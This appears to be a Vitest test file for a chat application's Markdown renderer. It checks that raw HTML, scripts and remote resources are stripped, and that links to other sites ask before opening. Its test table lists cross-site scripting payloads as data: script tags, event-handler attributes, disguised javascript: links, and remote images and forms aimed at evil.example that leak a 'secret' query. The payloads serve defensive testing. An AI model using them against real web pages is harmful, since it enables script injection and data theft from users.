import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/react";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { afterEach, describe, expect, test, vi } from "vitest";
import { TextProvider } from "#lib/client/text.tsx";
import { splitBlocks } from "#lib/shared/chat/blocks.ts";
import { pickSections } from "#lib/shared/messages/messages.ts";
import { AskBeforeLeaving } from "./foreign-link.tsx";
import { Markdown } from "./markdown.tsx";
import Prose from "./prose.tsx";

afterEach(cleanup);

async function show(text: string, growing = false, ask: (href: string) => void = () => undefined) {
  const view = render(<Page text={text} growing={growing} ask={ask} />);
  // The parser is loaded lazily.
  await waitFor(() => expect(view.container.querySelector(".prose")?.textContent).not.toBe(""));
  await new Promise((resolve) => setTimeout(resolve, 20));
  return view;
}

function Page({ text, growing, ask }: { text: string; growing: boolean; ask: (href: string) => void }) {
  return (
    <TextProvider locale="en" sections={pickSections("en", ["common", "chat"])}>
      <AskBeforeLeaving value={ask}>
        <Markdown text={text} growing={growing} />
      </AskBeforeLeaving>
    </TextProvider>
  );
}

describe("hostile Markdown loads and runs nothing", () => {
  test.each([
    ["a script", "<script>window.ran = 1</script>"],
    ["an image of raw HTML", '<img src="https://evil.example/x.png" onerror="window.ran = 1">'],
    [
      "raw HTML inside a paragraph",
      'text <svg onload="window.ran = 1"></svg> <iframe src="https://evil.example"></iframe>',
    ],
    [
      "a style sheet",
      "<style>@import url(https://evil.example/x.css)</style>\n\n<link rel=stylesheet href=https://evil.example>",
    ],
    ["a remote image", "![secret](https://evil.example/x.png?q=secret)"],
    ["a remote image by reference", "![secret][x]\n\n[x]: https://evil.example/x.png"],
    ["an image of data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
    ["our own routes as an image", "![x](/api/conversations) ![y](//evil.example/x.png)"],
    ["a script as a link", "[press](javascript:window.ran=1) <javascript:window.ran=1> [d](data:text/html,x)"],
    [
      "a script as a link, disguised",
      "[press](JaVaScRiPt&colon;alert(1)) [b](\u0001javascript:alert(1)) [v](vbscript:x)",
    ],
    ["a form", '<form action="https://evil.example"><input name=a><button>Delete</button></form>'],
    [
      "math that links and loads",
      "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{x}{y}$",
    ],
    [
      "HTML in a table, a heading and a list",
      "# <b onclick=x>\n\n| <img src=x> |\n|---|\n| <video src=x> |\n\n- <object data=x>",
    ],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ])("%s", async (_, text) => {
    const { container } = await show(text);
    expect(
      container.querySelector(
        "img, script, style, link, iframe, object, embed, video, audio, form, svg:not(.lucide):not(.katex *), meta, base",
      ),
    ).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^(?:src|srcset|data|action|formaction|background|poster|ping)$/);
        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
        if (name === "style") expect(value).not.toMatch(/url\(|expression/i);
      }
    }
    expect(window).not.toHaveProperty("ran");
  });

  test("raw HTML stays readable as text", async () => {
    const { container } = await show('Use <b>bold</b>.\n\n<div onclick="x">\n\nNext');
    expect(container.textContent).toContain("<b>bold</b>");
    expect(container.textContent).toContain('<div onclick="x">');
  });
});

describe("a link of another origin", () => {
  test("asks before it opens, however it is pressed", async () => {
    const ask = vi.fn();
    await show("[the book](https://example.com/a?b=1)", false, ask);
    const link = screen.getByRole("link");
    expect(fireEvent.click(link)).toBe(false);
    expect(fireEvent(link, new MouseEvent("auxclick", { bubbles: true, cancelable: true, button: 1 }))).toBe(false);
    expect(ask.mock.calls).toEqual([["https://example.com/a?b=1"], ["https://example.com/a?b=1"]]);
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  test("is text where it is no web address", async () => {
    await show("[a](javascript:alert(1)) and [b](/settings)");
    expect(screen.queryByRole("link")).toBeNull();
  });

  test("stands for a remote image, with its description", async () => {
    await show("![a chart](https://example.com/x.png)");
    expect(screen.getByRole("link").textContent).toContain("a chart");
  });
});

const rich = [
  "# One",
  "Some *text* with `code`, ~~old~~ and <b>tags</b>\nover lines  \nwith a break.",
  "- a\n- b\n\n  more\n  1. c\n  2. d\n- [x] done",
  "3. three\n4. four",
  "| a | b |\n|:--|--:|\n| 1 | 2 \\| 3 |",
  "> quote\n> - item\n\n> second",
  "Setext\n---",
  "See [one][1], [Two] and <https://example.com>.\n\n[1]: https://example.com/1\n[two]: https://example.com/2 'Title'",
  "***\n\n    indented\n\n    code\n\nend www.example.com",
].join("\n\n");

test("blocks rendered apart show what the whole text shows", () => {
  const whole = render(
    <Providers>
      <Prose text={rich} />
    </Providers>,
  );
  const expected = whole.container.innerHTML;
  whole.unmount();
  const parts = render(
    <Providers>
      <Markdown text={rich} growing={false} />
    </Providers>,
  );
  return waitFor(() => {
    const normal = (html: string) => html.replaceAll(/>\s+</g, "><").replaceAll(/:r\w+:|_r_\w+_/g, "");
    expect(normal(parts.container.querySelector(".prose")?.innerHTML ?? "")).toBe(normal(expected));
  });
});

test("what is rendered is what react-markdown makes of the same source", () => {
  const source = "A *b* `c`.\n\n- d\n- e\n\n> f";
  const { container } = render(<ReactMarkdown remarkPlugins={[remarkGfm]}>{source}</ReactMarkdown>);
  const { container: ours } = render(
    <Providers>
      <Prose text={source} />
    </Providers>,
  );
  expect(ours.innerHTML).toBe(container.innerHTML);
});

test("finished blocks are not touched while the text grows", async () => {
  const view = await show("First.\n\nSecond is **gro", true);
  const first = view.container.querySelector("p");
  expect(view.container.querySelector("strong")?.textContent).toBe("gro");
  view.rerender(<Page text={"First.\n\nSecond is **growing** now.\n\n```ts\nconst"} growing ask={() => undefined} />);
  await waitFor(() => expect(view.container.querySelector("pre")?.textContent).toBe("const"));
  expect(view.container.querySelector("p")).toBe(first);
});

test("a text that is too much for the parser is shown as it is", async () => {
  const deep = `${">".repeat(3000)} deep`;
  const long = "x*".repeat(8000);
  const { container } = await show(`${deep}\n\n${long}\n\nafter`);
  expect(container.querySelectorAll("blockquote").length).toBeLessThan(50);
  expect(container.textContent).toContain("after");
  expect(splitBlocks(long).blocks.length).toBeGreaterThan(1);
});

function Providers({ children }: { children: React.ReactNode }) {
  return (
    <TextProvider locale="en" sections={pickSections("en", ["common", "chat"])}>
      {children}
    </TextProvider>
  );
}
